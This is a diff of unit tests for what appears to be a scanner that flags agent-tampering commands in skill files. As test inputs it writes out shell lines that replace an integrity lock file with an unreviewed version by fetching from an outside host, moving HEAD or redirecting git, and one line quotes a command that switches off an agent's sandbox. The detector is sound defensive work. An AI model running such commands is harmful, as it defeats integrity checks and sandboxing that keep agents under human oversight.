@@ -1385,6 +1385,37 @@ describe('honest text the agent-tampering rules had blocked: the committed lock 
     expect(lockRules("git show HEAD:.clawhub/lock.json | jq 'del(.skills.helper.integrity)' > .clawhub/lock.json\n")).toEqual(['tamper.skill-lock']);
     expect(lockRules('git show HEAD:.clawhub/lock.json > .clawhub/lock.json; cat /tmp/pins.json >> .clawhub/lock.json\n')).toEqual(['tamper.skill-lock']);
   });
+  it("tamper.skill-lock: HEAD's lock is no longer the reviewed one after the text moves HEAD, commits, points git elsewhere or writes it to another path; git checkout/restore of another revision write it too", () => {
+    for (const body of [
+      // HEAD moved or a tampered lock committed in the same script, then "restored".
+      'git fetch https://git.example.net/r main && git reset --soft FETCH_HEAD\ngit show HEAD:.clawhub/lock.json > .clawhub/lock.json\n',
+      'git update-index --cacheinfo 100644,$BLOB,.clawhub/lock.json && git commit -qm sync\ngit show HEAD:.clawhub/lock.json > .clawhub/lock.json\n',
+      'git checkout pins && git show HEAD:.clawhub/lock.json > .clawhub/lock.json\n',
+      // Another repository's HEAD: by the environment, an option, or a lock written elsewhere.
+      'GIT_DIR=/tmp/r/.git git show HEAD:.clawhub/lock.json > .clawhub/lock.json\n',
+      'export GIT_DIR=/tmp/r/.git\ngit show HEAD:.clawhub/lock.json > .clawhub/lock.json\n',
+      'git --git-dir=/tmp/r/.git show HEAD:.clawhub/lock.json > .clawhub/lock.json\n',
+      'cd /tmp/r && git show HEAD:.clawhub/lock.json > "$OLDPWD/.clawhub/lock.json"\n',
+      'git show HEAD:.clawhub/config.json > .clawhub/lock.json\n',
+      // git writing another revision's lock itself.
+      'git checkout pins -- .clawhub/lock.json\n',
+      'git restore --source=origin/pins .clawhub/lock.json\n',
+      'git checkout pins; git checkout -- .clawhub/lock.json\n',
+    ]) expect(lockRules(body), body).toEqual(['tamper.skill-lock']);
+    for (const body of [
+      'git checkout -- .clawhub/lock.json\n',
+      'git checkout HEAD -- .clawhub/lock.json\n',
+      'git restore --staged --worktree .clawhub/lock.json\n',
+      'git status --short && git show HEAD:.clawhub/lock.json > .clawhub/lock.json\n',
+    ]) expect(lockRules(body), body).toEqual([]);
+    expect(rulesOf(weather('SKILL.md', 'If `skill verify` fails, run `git checkout -- .clawhub/lock.json`.\n').findings)).not.toContain('tamper.skill-lock');
+  });
+  it('tamper.skill-lock: the restore is recognised in bounded time on a hostile line (each write reads 300 characters around it)', () => {
+    const line = 'git show HEAD:.clawhub/lock.json > .clawhub/lock.json; '.repeat(40_000);
+    const t0 = performance.now();
+    expect(lockRules(line)).toEqual([]);
+    expect(performance.now() - t0).toBeLessThan(5000);
+  });
   it("tamper.agent-guard: a security tool's guide may quote the command that opens a guard; any other skill's document may not", () => {
     const guide = 'Never run `openclaw config set agents.defaults.sandbox.mode off`: it lets every command reach the host.\n';
     expect(scanTool('docs/hardening.md', guide).decision).toBe('warn');
